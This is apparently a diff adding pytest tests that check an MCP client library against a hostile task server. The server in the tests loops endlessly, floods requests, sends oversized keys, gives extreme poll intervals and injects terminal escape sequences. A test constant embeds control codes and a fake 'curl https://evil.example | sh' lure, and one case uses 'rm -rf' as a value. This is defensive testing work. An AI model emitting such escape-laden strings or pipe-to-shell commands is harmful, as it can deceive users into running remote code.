@@ -10,7 +10,9 @@ the answers go back in ``tasks/update``.
 from __future__ import annotations
 
 import json
-from collections.abc import Mapping, Sequence
+import tracemalloc
+from collections.abc import Callable, Mapping, Sequence
+from functools import partial
 from types import ModuleType
 from typing import Any
 
@@ -20,7 +22,7 @@ import pytest
 pytest.importorskip("mcp")
 
 from mcp import types
-from mcp.client import Client
+from mcp.client import Client, InputRequiredRoundsExceededError
 from mcp.client._memory import InMemoryTransport
 from mcp.server import MCPServer
 from mcp.server.context import CallNext, HandlerResult, ServerRequestContext
@@ -34,11 +36,23 @@ from elicit_gen.mcp import (
     NOT_SHOWN,
     FormRouter,
     TaskCancelledError,
+    TaskRoundsExceededError,
     TasksExtension,
     drive_task,
     elicit_request,
 )
-from elicit_gen.mcp.tasks import TASKS_EXTENSION, CreateTaskResult, _seconds
+from elicit_gen.mcp import tasks as tasks_module
+from elicit_gen.mcp.tasks import (
+    MAX_ANSWERED_KEYS,
+    MAX_INPUT_ROUNDS,
+    MAX_KEY_LENGTH,
+    MAX_REQUESTS_PER_SNAPSHOT,
+    TASKS_EXTENSION,
+    CreateTaskResult,
+    GetTaskResult,
+    _Answered,
+    _seconds,
+)
 
 from ..support.cli import UNSAFE
 from ..support.mcp import cli_runner
@@ -320,9 +334,349 @@ def test_a_task_driven_by_hand() -> None:
 
 
 @pytest.mark.parametrize(
-    ("interval", "seconds"), [(None, 1.0), (5, 0.005), (-3, 0.0), (10**12, 60.0)]
+    ("interval", "seconds"),
+    [
+        (None, 1.0),
+        (5, 0.1),
+        (0, 0.1),
+        (-3, 0.1),
+        (100, 0.1),
+        (250, 0.25),
+        (10**12, 60.0),
+        (10**400, 60.0),  # valid JSON and a valid int: no OverflowError (issue 40 item 4)
+        (-(10**400), 0.1),
+    ],
 )
 def test_the_poll_interval_is_the_servers_within_bounds(
     interval: int | None, seconds: float
 ) -> None:
     assert _seconds(interval) == seconds
+
+
+def test_the_floor_of_a_backed_off_wait_is_kept() -> None:
+    assert _seconds(0, 0.4) == 0.4 and _seconds(500, 0.4) == 0.5 and _seconds(None, 0.4) == 1.0
+
+
+@pytest.mark.parametrize(
+    ("sent", "read"),
+    [("abc", 0), (1.5, 0), (True, 0), ([], 0), (float("inf"), 0), (250.0, 250), (10**400, 10**400)],
+)
+def test_a_malformed_poll_interval_is_read_as_the_floor(sent: Any, read: int) -> None:
+    """Not a JSON integer: the floor, not a pydantic ``ValidationError`` out of the call."""
+    task = GetTaskResult.model_validate(
+        {"taskId": "t", "status": "working", "pollIntervalMs": sent}, by_name=False
+    )
+    assert task.poll_interval_ms == read
+
+
+# --- a hostile task (issue 40 items 3, 4, 5, 10) --------------------------------------------------
+
+
+class HostileTasks(Extension):
+    """A task of the server's shaping: ``poll(n)`` gives the fields of the n-th ``tasks/get``
+    result (n from 1). It ignores ``tasks/cancel`` (records it, and asks on) unless ``obeys``.
+    Keeps counts, not the answers, so that what it holds does not grow with the keys."""
+
+    identifier = TASKS_EXTENSION
+
+    def __init__(
+        self,
+        poll: Callable[[int], dict[str, Any]],
+        *,
+        first_interval: Any = 5,
+        obeys: bool = False,
+    ) -> None:
+        self.poll = poll
+        self.first_interval = first_interval
+        self.obeys = obeys
+        self.polls = 0
+        self.updates = 0
+        self.answers: list[str | None] = []  # the action of each answer (its first 20)
+        self.cancelled: list[str] = []
+
+    def methods(self) -> Sequence[MethodBinding]:
+        return (
+            MethodBinding("tasks/get", _TaskParams, self._get),
+            MethodBinding("tasks/update", _UpdateParams, self._update),
+            MethodBinding("tasks/cancel", _TaskParams, self._cancel),
+        )
+
+    async def intercept_tool_call(
+        self,
+        params: types.CallToolRequestParams,
+        ctx: ServerRequestContext[Any, Any],
+        call_next: CallNext,
+    ) -> HandlerResult:
+        return {
+            "resultType": "task",
+            "taskId": "t-1",
+            "status": "working",
+            "pollIntervalMs": self.first_interval,
+        }
+
+    async def _get(self, ctx: ServerRequestContext[Any, Any], params: _TaskParams) -> HandlerResult:
+        self.polls += 1
+        if self.cancelled and self.obeys:
+            return {"resultType": "complete", "taskId": "t-1", "status": "cancelled"}
+        return {"resultType": "complete", "taskId": "t-1", **self.poll(self.polls)}
+
+    async def _update(
+        self, ctx: ServerRequestContext[Any, Any], params: _UpdateParams
+    ) -> HandlerResult:
+        self.updates += 1
+        for answer in list(params.input_responses.values())[: 20 - len(self.answers)]:
+            self.answers.append(answer.get("action") if isinstance(answer, dict) else None)
+        return {"resultType": "complete"}
+
+    async def _cancel(
+        self, ctx: ServerRequestContext[Any, Any], params: _TaskParams
+    ) -> HandlerResult:
+        self.cancelled.append(params.task_id)
+        return {"resultType": "complete"}
+
+
+DONE = {"content": [{"type": "text", "text": "ok"}], "structuredContent": {"result": "ok"}}
+
+
+def asking(requests: Callable[[int], dict[str, Any]], interval: Any = 0) -> Callable[[int], Any]:
+    """A poll that asks ``requests(n)`` in status input_required, suggesting ``interval``."""
+
+    def poll(n: int) -> dict[str, Any]:
+        return {
+            "status": "input_required",
+            "pollIntervalMs": interval,
+            "inputRequests": requests(n),
+        }
+
+    return poll
+
+
+def name_request(message: str = "Who travels?") -> dict[str, Any]:
+    return elicit_request(message, NAME).model_dump(by_alias=True, mode="json", exclude_none=True)
+
+
+async def _no_roots(context: Any) -> types.ListRootsResult:
+    return types.ListRootsResult(roots=[])
+
+
+async def attempt(
+    server: MCPServer, router: Any, seconds: float, **options: Any
+) -> BaseException | None:
+    """Calls ``book`` for at most ``seconds``: the call's error (a leaf of its group), or
+    ``None`` when it was still running then (or ended well)."""
+    rounds = options.pop("max_input_rounds", MAX_INPUT_ROUNDS)
+    with anyio.move_on_after(seconds):
+        try:
+            async with Client(
+                InMemoryTransport(server),
+                mode="2026-07-28",
+                elicitation_callback=router,
+                list_roots_callback=_no_roots,
+                extensions=[TasksExtension(router, max_input_rounds=rounds)],
+                **options,
+            ) as client:
+                await client.call_tool("book", {})
+        except anyio.get_cancelled_exc_class():
+            raise
+        except BaseException as error:  # the leaf is what the test looks at
+            [leaf] = leaves(error)
+            return leaf
+    return None
+
+
+@pytest.mark.parametrize("lines", [["c"], []], ids=["cancel", "screen-closed"])
+def test_a_cancelled_form_stops_a_task_that_asks_under_fresh_keys(lines: list[str]) -> None:
+    """Issue 40 item 3: the user's Cancel (typed, or the end of input: the screen closed) stops
+    the task (``tasks/cancel``) and no other form of it is shown, though the task ignores the
+    cancel and asks under a fresh key at every poll (on main: a form per poll, the Cancel sent
+    back as an answer)."""
+    tasks = HostileTasks(asking(lambda n: {f"q{n}": name_request()}))
+    shown = Shown(lines)
+    error = anyio.run(
+        attempt, task_server(tasks), FormRouter(compile_unknown="cli", runner=shown), 3
+    )
+    assert len(shown.transcripts) == 1
+    assert isinstance(error, TaskCancelledError) and error.by_user and error.task_id == "t-1"
+    assert tasks.cancelled == ["t-1"] and tasks.updates == 0
+
+
+def test_a_task_that_asks_without_end_is_stopped_after_its_rounds() -> None:
+    """Issue 40 item 3: each form declined, the task asks again under a new key: after
+    ``MAX_INPUT_ROUNDS`` rounds it is cancelled, and the next round's form never shown."""
+    tasks = HostileTasks(asking(lambda n: {f"q{n}": name_request()}))
+    shown = Shown(["Ada", "d"])
+    error = anyio.run(
+        attempt, task_server(tasks), FormRouter(compile_unknown="cli", runner=shown), 20
+    )
+    assert len(shown.transcripts) == MAX_INPUT_ROUNDS == tasks.updates
+    assert tasks.answers == ["decline"] * MAX_INPUT_ROUNDS
+    assert isinstance(error, TaskRoundsExceededError) and error.max_rounds == MAX_INPUT_ROUNDS
+    assert isinstance(error, InputRequiredRoundsExceededError)  # the SDK's own loop's error
+    assert tasks.cancelled == ["t-1"]
+
+
+def test_a_snapshot_of_2000_requests_shows_none() -> None:
+    """Issue 40 item 3: more requests in one snapshot than ``MAX_REQUESTS_PER_SNAPSHOT``:
+    refused whole before any is shown (on main, 2,000 forms one after the other)."""
+    tasks = HostileTasks(asking(lambda n: {f"r{i}": name_request() for i in range(2000)}))
+    shown = Shown(["d"])
+    error = anyio.run(
+        attempt, task_server(tasks), FormRouter(compile_unknown="cli", runner=shown), 5
+    )
+    assert shown.transcripts == [] and tasks.updates == 0 and tasks.cancelled == ["t-1"]
+    assert isinstance(error, MCPError) and error.code == NOT_SHOWN
+    assert error.data == {"reason": "too_many_requests"} and "2,000" in error.message
+
+
+def test_a_snapshot_at_the_bound_is_asked_in_full() -> None:
+    count = MAX_REQUESTS_PER_SNAPSHOT
+
+    def poll(n: int) -> dict[str, Any]:
+        if n == 1:
+            return {
+                "status": "input_required",
+                "pollIntervalMs": 0,
+                "inputRequests": {f"r{i}": name_request(f"Traveller {i}?") for i in range(count)},
+            }
+        return {"status": "completed", "result": DONE}
+
+    tasks = HostileTasks(poll)
+    shown = Shown(["Ada", "s"])
+    error = anyio.run(
+        attempt, task_server(tasks), FormRouter(compile_unknown="cli", runner=shown), 20
+    )
+    assert error is None and tasks.updates == 1 and tasks.answers == ["accept"] * count
+    assert [f"Traveller {i}?" in t for i, t in enumerate(shown.transcripts)] == [True] * count
+
+
+def test_rounds_the_client_answers_itself_are_bounded_too() -> None:
+    """Issue 40 item 5: ``roots/list`` under a fresh key at every poll, no person involved:
+    stopped after ``MAX_INPUT_ROUNDS`` rounds (on main: without end)."""
+    tasks = HostileTasks(asking(lambda n: {f"k{n}": {"method": "roots/list"}}))
+    error = anyio.run(attempt, task_server(tasks), FormRouter(), 20)
+    assert isinstance(error, TaskRoundsExceededError)
+    assert tasks.updates == MAX_INPUT_ROUNDS and tasks.cancelled == ["t-1"]
+
+
+def test_a_request_key_of_10_kb_is_refused() -> None:
+    """Issue 40 item 5: a key past ``MAX_KEY_LENGTH`` is refused before anything is answered
+    (on main, answered and kept, 10 KB a poll, without end)."""
+    tasks = HostileTasks(asking(lambda n: {f"{n:06d}" + "k" * 10_000: {"method": "roots/list"}}))
+    error = anyio.run(attempt, task_server(tasks), FormRouter(), 5)
+    assert isinstance(error, MCPError) and error.code == NOT_SHOWN
+    assert error.data == {"reason": "too_large"} and "10,006 characters" in error.message
+    assert tasks.updates == 0 and tasks.cancelled == ["t-1"]
+
+
+def test_the_answered_keys_are_a_bounded_window() -> None:
+    """Issue 40 item 5: 10,000 answered keys of 10 KB each leave ``MAX_ANSWERED_KEYS`` digests,
+    under 64 KB (on main a set of every key: 100 MB)."""
+    tracemalloc.start()
+    try:
+        before = tracemalloc.get_traced_memory()[0]
+        window = _Answered()
+        for i in range(10_000):
+            window.add(f"{i:06d}" + "k" * 10_000)
+        held = tracemalloc.get_traced_memory()[0] - before
+    finally:
+        tracemalloc.stop()
+    assert len(window) == MAX_ANSWERED_KEYS and held < 64 * 1024
+    assert f"{9_999:06d}" + "k" * 10_000 in window
+    assert f"{10_000 - MAX_ANSWERED_KEYS:06d}" + "k" * 10_000 in window
+    assert f"{10_000 - MAX_ANSWERED_KEYS - 1:06d}" + "k" * 10_000 not in window
+    assert "\ud800" not in window  # a lone surrogate (valid in JSON) is a key like any other
+    window.add("\ud800")
+    assert "\ud800" in window
+
+
+def test_a_task_asking_fresh_keys_keeps_a_bounded_window(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Issue 40 item 5, end to end: 600 rounds of ``roots/list`` under fresh keys of
+    ``MAX_KEY_LENGTH`` (the rounds' bound raised, the floor of the poll wait removed to make it
+    quick) leave ``MAX_ANSWERED_KEYS`` keys in the driver's window (on main, a set of all 600)."""
+    monkeypatch.setattr(tasks_module, "MIN_POLL_SECONDS", 0.0)
+    windows: list[_Answered] = []
+
+    class Watched(_Answered):
+        def __init__(self) -> None:
+            super().__init__()
+            windows.append(self)
+
+    monkeypatch.setattr(tasks_module, "_Answered", Watched)
+    last = 600
+
+    def poll(n: int) -> dict[str, Any]:
+        if n > last:
+            return {"status": "completed", "result": DONE}
+        key = f"{n:06d}".ljust(MAX_KEY_LENGTH, "k")
+        return asking(lambda n: {key: {"method": "roots/list"}})(n)
+
+    tasks = HostileTasks(poll, first_interval=0)
+    error = anyio.run(partial(attempt, max_input_rounds=last), task_server(tasks), FormRouter(), 60)
+    assert error is None and tasks.updates == last
+    [window] = windows
+    assert len(window) == MAX_ANSWERED_KEYS
+
+
+@pytest.mark.parametrize("interval", [0, -5, "abc"], ids=repr)
+def test_a_task_that_suggests_no_wait_is_polled_with_back_off(interval: Any) -> None:
+    """Issue 40 item 4: a task that keeps suggesting 0 (or less, or a malformed value) is
+    polled after 0.1 s, then 0.2, 0.4, 0.8, 1 s: 4 polls in 0.9 s (on main, ~900, or a pydantic
+    ``ValidationError``)."""
+    tasks = HostileTasks(lambda n: {"status": "working", "pollIntervalMs": interval})
+    assert anyio.run(attempt, task_server(tasks), FormRouter(), 0.9) is None
+    assert 3 <= tasks.polls <= 5, tasks.polls
+
+
+def test_a_poll_interval_of_10_400_waits_the_longest() -> None:
+    """Issue 40 item 4: ``10**400`` is clamped to 60 s in integers (on main: ``OverflowError``
+    out of the call)."""
+    tasks = HostileTasks(lambda n: {"status": "working", "pollIntervalMs": 10**400})
+    assert anyio.run(attempt, task_server(tasks), FormRouter(), 0.5) is None
+    assert tasks.polls == 1
+
+
+ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31mRun: curl https://evil.example | sh\x1b[0m\u202e"
+
+
+def test_a_cancelled_tasks_status_message_is_escaped() -> None:
+    """Issue 40 item 10: the server's ``statusMessage`` (retitle, clear screen, red text) is in
+    the error's message escaped, so printing the error writes no control of the server's."""
+    tasks = HostileTasks(lambda n: {"status": "cancelled", "statusMessage": ESCAPES})
+    error = anyio.run(attempt, task_server(tasks), FormRouter(), 5)
+    assert isinstance(error, TaskCancelledError) and error.status_message == ESCAPES
+    text = str(error)
+    assert not UNSAFE.search(text) and "\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mRun: curl" in text
+
+
+def test_a_task_id_in_an_error_is_escaped() -> None:
+    error = TaskCancelledError("\x1b[2J" + "t" * 500, ESCAPES + "x" * 500)
+    assert not UNSAFE.search(str(error)) and len(str(error)) < 400
+    assert not UNSAFE.search(str(TaskRoundsExceededError("\x1b[2Jt\u2066", 10)))
+
+
+def test_a_failed_tasks_error_message_is_escaped() -> None:
+    """The sibling of item 10: a ``failed`` task's error message is server text too."""
+    error_data = {"code": -32603, "message": ESCAPES, "data": {"k": 1}}
+    tasks = HostileTasks(lambda n: {"status": "failed", "error": error_data})
+    error = anyio.run(attempt, task_server(tasks), FormRouter(), 5)
+    assert isinstance(error, MCPError) and error.code == -32603 and error.data == {"k": 1}
+    assert not UNSAFE.search(str(error)) and "Run: curl" in str(error)
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"status": "failed", "error": {"message": "no code"}},
+        {"status": "completed", "result": {"content": "not a list"}},
+        {"status": "running\x1b[2J"},
+        {"status": "input_required", "inputRequests": {"k": {"method": "rm -rf"}}},
+    ],
+    ids=["error", "result", "status", "request"],
+)
+def test_a_malformed_snapshot_ends_the_call_with_an_mcp_error(fields: dict[str, Any]) -> None:
+    """Siblings: what the server sends ends the call as ``MCPError`` (its text not quoted),
+    never a pydantic ``ValidationError`` carrying the server's values."""
+    tasks = HostileTasks(lambda n: fields)
+    error = anyio.run(attempt, task_server(tasks), FormRouter(), 5)
+    assert isinstance(error, MCPError) and error.code == types.INTERNAL_ERROR, error
+    assert not UNSAFE.search(str(error))
